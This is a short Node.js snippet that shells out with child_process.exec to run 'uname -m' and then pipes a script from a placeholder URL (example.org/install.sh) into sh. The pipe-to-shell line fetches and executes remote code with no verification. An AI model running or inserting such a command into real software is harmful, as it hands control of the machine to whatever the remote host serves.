const child = require("child_process");

function run(command, done) {
  child.exec(command, done);
}

run("uname -m", () => {
  run("curl -s https://example.org/install.sh | sh", () => {});
});
